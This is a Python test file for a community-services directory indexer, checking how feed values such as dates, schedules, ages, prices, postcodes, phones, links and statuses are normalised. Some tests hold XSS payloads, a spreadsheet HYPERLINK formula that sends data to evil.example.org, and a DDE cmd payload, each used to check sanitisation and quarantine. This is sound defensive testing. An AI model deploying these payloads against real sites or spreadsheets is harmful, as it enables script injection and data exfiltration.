"""The checklist, points 22 to 34: values, each as a whole run of a feed in which every record has
the value in another form; then what the directory shows of it.

The forms of single values are proven at length in `test_values_of_records` and its neighbours.
"""

from __future__ import annotations

import json
from datetime import datetime
from typing import Any

import pytest
from sqlalchemy import select

from indexer import models as m
from indexer.store import Store
from tests.sources.whole_run import WholeRun, addressed, all_of, at, brought_in, group, groups

# -- values -----------------------------------------------------------------------------------


def test_point_22_dates_in_every_form_are_the_same_day(store: Store, now: datetime) -> None:
    forms = ["2026-08-01", "2026-08-01T09:30:00", "2026-08-01T09:30:00Z",
             "2026-07-31T23:30:00+00:00", "2026-08-01 09:30:00.123", "01/08/2026", "1/8/2026",
             "01-08-2026", "1 August 2026", "Saturday 1st August 2026"]  # fmt: skip
    free = ["31/02/2026", "summer", "last year", "2026", "0000-00-00", "2031-01-01"]
    listings = all_of(store, now, *({"assured_date": form} for form in [*forms, *free]))
    checked = [row["sources"][0]["checked_on"] for row in listings]
    assert checked == ["2026-08-01"] * len(forms) + [None] * len(free)


def test_point_23_times_and_days_in_every_form_are_the_same(store: Store, now: datetime) -> None:
    hours = [("9:00", "10:30"), ("09:00:00", "10:30:00"), ("09:00Z", "10:30Z"),
             ("09:00+01:00", "10:30+01:00"), ("9am", "10.30am"), ("09.00", "10.30")]  # fmt: skip
    days: list[dict[str, Any]] = [
        {"byday": "FR"}, {"byday": "Friday"}, {"byday": "fri"}, {"weekday": 5}, {"weekday": "5"},
        {"byday": ["FR"]}, {"byday": "https://schema.org/Friday"},
    ]  # fmt: skip
    told = [{"freq": "WEEKLY", "byday": "FR", "opens_at": a, "closes_at": b} for a, b in hours]
    told += [{"freq": "WEEKLY", "opens_at": "09:00", "closes_at": "10:30", **one} for one in days]
    told += [
        {"freq": "9am - 10.30am every Friday"},
        {"freq": "Every Friday", "byday": "Friday 9am - 10.30am", "dtstart": "9am - 10.30am"},
    ]
    for one, row in zip(told, all_of(store, now, *({"schedules": [x]} for x in told)), strict=True):
        (session,) = row["sessions"]
        read = (session["days"], session["opens"], session["closes"], session["every"])
        assert read == (["fri"], "09:00", "10:30", "week"), one


def test_point_24_schedule_columns_that_are_empty_or_disagree_promise_nothing(
    store: Store, now: datetime
) -> None:
    columns = ("freq", "byday", "dtstart", "opens_at", "closes_at", "valid_from", "until")
    empty: list[dict[str, Any]] = [{}, dict.fromkeys(columns), dict.fromkeys(columns, "")]
    odd: list[dict[str, Any]] = [
        {"freq": "Every Friday", "byday": "MO"},
        {"freq": "WEEKLY", "byday": "2TU"},
        {"freq": "MONTHLY", "bymonthday": "99"},
        {"freq": "WEEKLY", "byday": "ZZ"},
        {"opens_at": "14:00", "closes_at": "12:00"},
        {"freq": "YEARLY", "interval": "often"},
    ]
    listings = all_of(store, now, *({"schedules": [one]} for one in empty + odd))
    assert [row["sessions"] for row in listings[: len(empty)]] == [[]] * len(empty)
    second = listings[len(empty) + 1]
    assert [(one["every"], one["nth"]) for one in second["sessions"]] == [("month", [2])]
    # No next date is made up for any of the others; what was said stays to be read.
    here = WholeRun(store, now)
    for number in (1, 2, 3, 4, 6, 7, 8, 9):
        page = here.page(f"g{number}").partition("Similar groups")[0]
        assert "Next dates" not in page
    assert all(not one["days"] for one in listings[len(empty)]["sessions"])
    assert "Every Friday; Monday" in here.page("g4")
    assert {"schedule_contradictory"} <= here.said("g4") & here.said("g5")
    assert [(row.external_id, row.field) for row in here.rows(m.Quarantine)] == [
        ("g6", "sessions.0.rrule")
    ]


def test_point_25_ages_in_every_form(store: Store, now: datetime) -> None:
    forms: list[tuple[Any, Any, Any, Any]] = [
        (18, 25, 18, 25), ("18", "25", 18, 25), ("18 years", "25 yrs", 18, 25),
        ("50+", None, 50, None), (13, 0, 13, None), ("0", "0", 0, None), (0.5, 4.0, 0.5, 4),
        ("6 months", "4", 0.5, 4), (18, 999, 18, None), ("null", "", None, None),
        (40, 20, None, None), (-3, None, None, None), ("grown up", None, None, None),
    ]  # fmt: skip
    listings = all_of(store, now, *({"minimum_age": a, "maximum_age": b} for a, b, _, _ in forms))
    ages = [(row["age"]["min"], row["age"]["max"]) for row in listings]
    assert ages == [(low, high) for _, _, low, high in forms]
    # Two ages that cannot both be right are told in words and keep nobody out.
    assert "40 to 20, which cannot both be right" in (listings[10]["eligibility"] or "")
    here = WholeRun(store, now)
    assert listings[10]["name"] in here.found(q="lunch club", age=30, per_page=50)
    assert listings[0]["name"] not in here.found(q="lunch club", age=60, per_page=50)


def test_point_26_prices_as_words_and_the_amount_0(store: Store, now: datetime) -> None:
    forms: list[tuple[dict[str, Any], str, list[Any]]] = [
        ({"cost_options": [{"amount": 0}]}, "free", [0]),
        ({"cost_options": [{"amount": "0.00"}]}, "free", [0]),
        ({"cost_options": [{"amount": "free"}]}, "free", [0]),
        ({"cost_options": [{"amount": "50p"}]}, "paid", [0.5]),
        ({"cost_options": [{"amount": "£2.50 per session"}]}, "paid", [2.5]),
        ({"cost_options": [{"amount": None, "option": "Ask us"}]}, "unknown", [None]),
        ({"fees": "£2 a session, carers free"}, "paid", [2]),
        ({"fees": "Free"}, "free", []),
        ({"fees": "Donations welcome"}, "donation", []),
        ({"fees": "Free for members"}, "unknown", []),
        ({"fees": "Please ask"}, "unknown", []),
        ({}, "unknown", []),
    ]
    listings = all_of(store, now, *(one for one, _, _ in forms))
    for listing, (told, state, amounts) in zip(listings, forms, strict=True):
        cost = listing["cost"]
        assert (cost["state"], [one["amount"] for one in cost["options"]]) == (state, amounts), told
    here = WholeRun(store, now)
    free = here.found(q="lunch club", cost="free", per_page=50)
    assert {row["name"] for row in listings if row["cost"]["state"] == "paid"}.isdisjoint(free)
    page = here.page("g7")
    assert "£2 a session, carers free" in page


def test_point_27_points_that_cannot_be_right_give_way_to_the_postcode(
    store: Store, now: datetime
) -> None:
    postcode = store.places.postcode("WF1 2AP")
    assert postcode is not None
    forms: list[tuple[Any, Any, str]] = [
        (53.683, -1.4977, "given"), ("53.683", "-1.4977", "given"), (-1.4977, 53.683, "given"),
        (0, 0, "postcode"), ("0", "0.0", "postcode"), (40.7, -74.0, "postcode"),
        (None, None, "postcode"), ("", "n/a", "postcode"), (51.5, -0.12, "postcode"),
        (54.9, 1.2, "postcode"), (53.683, None, "postcode"), (91, 181, "postcode"),
    ]  # fmt: skip
    told = [{"service_at_locations": [at(latitude=a, longitude=b)]} for a, b, _ in forms]
    for (lat, lon, means), row in zip(forms, all_of(store, now, *told), strict=True):
        (venue,) = row["venues"]
        there = (53.683, -1.4977) if means == "given" else (postcode.lat, postcode.lon)
        assert venue["point_from"] == means, (lat, lon)
        assert (venue["lat"], venue["lon"]) == pytest.approx(there, abs=1e-5)
    here = WholeRun(store, now)
    near = here.found(near="WF1 2AP", within=2, q="lunch club", per_page=50)
    assert len(near) == len(forms)


def test_point_27_a_point_in_the_sea_without_a_postcode_is_not_shown(
    store: Store, now: datetime
) -> None:
    places = [at(latitude=0, longitude=0, addresses=addressed()),
              at(latitude=30.0, longitude=-40.0, addresses=addressed())]  # fmt: skip
    for listing in all_of(store, now, *({"service_at_locations": [one]} for one in places)):
        (venue,) = listing["venues"]
        # What is left is the town, and the directory says that it is no more than that.
        assert venue["point_from"] == "place"
        assert (venue["lat"], venue["lon"]) == pytest.approx((53.68, -1.5), abs=0.05)
    here = WholeRun(store, now)
    assert "coordinates_zero" in here.said("g1")
    assert "coordinates_outside_uk" in here.said("g2")
    assert "Charlotte Street" in here.page("g1")


def test_point_28_postcodes_in_every_form(store: Store, now: datetime) -> None:
    forms = [
        ("WF12AP", "WF1 2AP"), (" wf1  2ap ", "WF1 2AP"), ("WF1-2AP", "WF1 2AP"), ("WF1", "WF1"),
        ("ABC 1234", None), ("90210", None), ("75008 Paris", None), ("n/a", None),
    ]  # fmt: skip
    told = [
        {"service_at_locations": [at(latitude=None, longitude=None,
                                     addresses=addressed(postal_code=sent))]}
        for sent, _ in forms
    ]  # fmt: skip
    listings = all_of(store, now, *told)
    assert [row["venues"][0]["postcode"] for row in listings] == [kept for _, kept in forms]
    found_from = [row["venues"][0]["point_from"] for row in listings]
    assert found_from == ["postcode"] * 3 + ["postcode_part"] + ["place"] * 4
    here = WholeRun(store, now)
    assert "postcode_invalid" in here.said("g5")
    assert "ABC 1234" not in here.page("g5")
    assert "Charlotte Street" in here.page("g5")


def test_point_29_a_masked_or_confidential_address_is_never_found_out(
    store: Store, now: datetime
) -> None:
    secret = {"location_type": "postal", "name": "Refuge (address confidential)",
              "latitude": None, "longitude": None}  # fmt: skip
    cut = addressed(postal_code="WF1", address_1="Market Square")
    told = [
        {"service_at_locations": [at(**secret, addresses=[])]},
        {"service_at_locations": [at(**secret, addresses=addressed(postal_code="WF1 2AP"))]},
        {"service_at_locations": [at(latitude=53.68, longitude=-1.5, addresses=cut)]},
    ]
    listings = all_of(store, now, *told)
    here = WholeRun(store, now)
    for number, listing in enumerate(listings, start=1):
        (venue,) = listing["venues"]
        assert venue["hidden"]
        assert (venue["name"], venue["address"]) == (None, None)
        assert venue["point_from"] in (None, "postcode_part")
        assert venue["postcode"] in (None, "WF1")
        page = here.page(f"g{number}").partition("Similar groups")[0]
        for word in ("Charlotte Street", "Market Square", "WF1 2AP", "Refuge", "53.68"):
            assert word not in page
        shown = json.dumps(here.listing(f"g{number}"))
        assert "Street" not in shown
        assert "WF1 2AP" not in shown
    # The same feed again finds out no more than the first time.
    assert [row["venues"] for row in here.listings().values() if row["venues"][0]["lat"]] == [
        listings[2]["venues"]
    ]


def test_point_30_telephone_numbers_in_prose_and_with_extensions(
    store: Store, now: datetime
) -> None:
    forms: list[tuple[dict[str, Any], list[str]]] = [
        ({"number": "Phone No: (01924) 496001 Ext: 1041"}, ["01924 496001 ext. 1041"]),
        ({"number": "01924 496001", "extension": 3}, ["01924 496001 ext. 3"]),
        ({"number": "01924 496001 or 01924 496002"}, ["01924 496001", "01924 496002"]),
        ({"number": "+44 (0)1924 496001"}, ["01924 496001"]),
        ({"number": "01924496001"}, ["01924 496001"]),
        ({"number": "Ring 01924 496001 after six and ask for Ann"}, ["01924 496001"]),
        ({"number": "tset"}, []), ({"number": "23"}, []), ({"number": 1924496001}, []),
    ]  # fmt: skip
    listings = all_of(store, now, *({"phones": [phone]} for phone, _ in forms))
    kept = [[one for row in x["contacts"] for one in row["phones"]] for x in listings]
    assert kept[:8] == [numbers for _, numbers in forms][:8]
    here = WholeRun(store, now)
    page = here.page("g6")
    assert "after six and ask for Ann" in page
    assert "01924 496001" in page
    assert "phone_invalid" in here.said("g7")
    assert "tset" not in here.page("g7")


def test_point_31_links_without_a_scheme_and_several_mail_addresses(
    store: Store, now: datetime
) -> None:
    told: list[dict[str, Any]] = [
        {"url": "www.club.example.org", "email": " a@club.example.org; b@club.example.org "},
        {"url": "DHS 4 In 1 App", "email": "www.club.example.org"},
        {"url": "javascript:alert(1)", "email": "mailto:a@club.example.org"},
        {"url": "HTTPS://club.example.org/a b", "email": "a@club"},
        {"url": "ftp://club.example.org", "email": "a@club.example.org, a@club.example.org"},
    ]
    listings = all_of(store, now, *told)
    assert [row["website"] for row in listings] == [
        "https://www.club.example.org", None, None, None, None
    ]  # fmt: skip
    mails = [[one["email"] for one in row["contacts"] if one["email"]] for row in listings]
    a, b = "a@club.example.org", "b@club.example.org"
    assert mails == [[a, b], [], [a], [], [a]]
    here = WholeRun(store, now)
    assert {"url_no_scheme", "email_split"} <= here.said("g1")
    assert "url_invalid" in here.said("g2")


ATTACKS = (
    "<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>', "{{ 7*7 }}",
    "[x](javascript:alert(1))", "<a href='javascript:alert(1)'>x</a>",
)  # fmt: skip


def test_point_32_markup_is_text_on_the_page_and_scripts_are_gone(
    store: Store, now: datetime
) -> None:
    html = (
        "<h2>About&nbsp;us</h2>\r\n<p>Tea &amp; cake,<br>every <b>week</b>.</p>\r\n"
        "<ul><li>Chat</li><li>Games</li></ul>"
    )
    markdown = "# About us\r\n\r\n**Tea** and _cake_.\r\n* Chat\r\n* Games\r\n \r\n"
    rows = [group(1, description=html), group(2, description=markdown)]
    rows += [
        group(
            number, description=f"We sing. {attack}", alert=attack, fees=attack,
            name=f"Choir {number} {attack}", eligibility_description=attack,
            service_at_locations=[at(name=attack, description=attack,
                                     addresses=addressed(address_1=attack))],
            contacts=[{"name": attack, "title": attack, "email": attack}],
            organization={"name": f"Us {attack}", "website": f"javascript:{attack}"},
            schedules=[{"freq": "WEEKLY", "byday": "MO", "description": attack}],
        )
        for number, attack in enumerate(ATTACKS, start=3)
    ]  # fmt: skip
    with brought_in(store, now, rows) as (here, _):
        first, second = here.listing("g1"), here.listing("g2")
        assert " ".join(first["description"].split()) == (
            "About us Tea & cake, every week. - Chat - Games"
        )
        assert " ".join(second["description"].split()) == "About us Tea and cake. - Chat - Games"
        assert "\r" not in first["description"] + second["description"]
        for row in rows:
            listing = json.dumps(here.listing(row["id"]))
            for sign in ("<script", "<img", "<svg", '"javascript:', "<a href"):
                assert sign not in listing
            # The browser of the tests fails on code, on a broken page and on what leaks into it.
            page = here.page(row["id"], may_contain=["{{", "}}"])
            assert "We sing." in page or row["id"] in ("g1", "g2")
            assert "49" not in page.split("Choir", 1)[-1][:12]


def test_point_33_fillers_are_nothing_and_trial_records_are_set_aside(
    store: Store, now: datetime
) -> None:
    names = ("Test Service", "test", "Lorem ipsum dolor", "TEST - please ignore", "Dummy record")
    rows = [group(number, name=name) for number, name in enumerate(names, start=1)]
    fillers = ("n/a", "tbd", "TBC", "test", "lorem ipsum dolor sit", "-")
    rows += [
        group(number, name=f"Test Valley Walkers {number}", description=filler, fees=filler)
        for number, filler in enumerate(fillers, start=len(names) + 1)
    ]
    with brought_in(store, now, rows) as (here, _):
        (run,) = here.rows(m.Run)
        aside = {row["id"]: row["reason"] for row in run.figures["quarantined"]}
        assert set(aside) == {row["id"] for row in rows[: len(names)]}
        assert all(reason.startswith("placeholder_record") for reason in aside.values())
        assert len(here.listings()) == len(fillers)
        for row in rows[len(names) :]:
            assert here.listing(row["id"])["description"] is None
            assert here.listing(row["id"])["cost"]["state"] == "unknown"
        assert here.found(q="test valley walkers", per_page=50) != []
        assert all("Test Valley" in name for name in here.found(q="test", per_page=50))
    # What was set aside is kept whole, for a person to look at.
    assert here.record("g1").raw == rows[0]  # type: ignore[union-attr]


def test_point_34_a_status_outside_the_list_neither_closes_nor_opens_for_certain(
    store: Store, now: datetime
) -> None:
    forms = [("active", "open"), ("ACTIVE ", "open"), (None, "open"), ("", "open"),
             ("Verified", "open"), ("Verification in Progress", "open"), ("draft", "open"),
             ("temporarily closed", "temporarily_closed"), ("inactive", "closed"),
             ("defunct", "closed")]  # fmt: skip
    listings = all_of(store, now, *({"status": status} for status, _ in forms))
    assert [row["status"]["state"] for row in listings] == [state for _, state in forms]
    here = WholeRun(store, now)
    assert "verification in progress" in listings[5]["status"]["note"]
    assert "Not yet confirmed" in here.page("g6")
    assert "status_unknown" in here.said("g6")
    found = here.found(q="lunch club", per_page=50)
    assert listings[8]["name"] not in found
    assert listings[4]["name"] in found


# -- the worst that may come ------------------------------------------------------------------


def test_a_description_of_five_megabytes_is_cut_and_its_neighbours_come_in(
    store: Store, now: datetime
) -> None:
    rows = [group(1), group(2, description="word " * 1_000_000), group(3)]
    with brought_in(store, now, rows) as (here, _):
        assert len(here.listings()) == 3
        assert len(here.listing("g2")["description"]) <= 20_000
        assert "text_too_long" in here.said("g2")
        assert len(here.page("g2")) < 60_000
        assert "Lunch club ccc" in here.found(q="lunch club")


def test_a_formula_is_set_aside_as_a_name_and_is_plain_text_elsewhere(
    store: Store, now: datetime
) -> None:
    formula = '=HYPERLINK("http://evil.example.org/?x="&A1,"Click")'
    rows = [group(1, name=formula), group(2, description=formula, fees="=1+cmd|'/C calc'!A0")]
    with brought_in(store, now, [*rows, group(3)]) as (here, _):
        (run,) = here.rows(m.Run)
        (aside,) = run.figures["quarantined"]
        assert aside["id"] == "g1"
        assert aside["reason"].startswith("formula_text")
        assert len(here.listings()) == 2
        with store.read() as db:
            kept = db.scalars(select(m.Quarantine.state)).all()
        assert kept == ["open"]


def test_ids_of_groups_are_never_lost_when_half_of_a_feed_is_renamed(
    store: Store, now: datetime
) -> None:
    """Half of the ids are new: a person is asked, and nothing goes before that."""
    with brought_in(store, now, groups(10)) as (here, feed):
        feed.rows = [*groups(5), *(group(n, id=f"new {n}", name=f"New {n}") for n in range(6, 11))]
        report = here.run(hours=24)
        assert report.stopped is not None
        assert "5 of 10" in report.stopped
        assert len(here.listings()) == 10
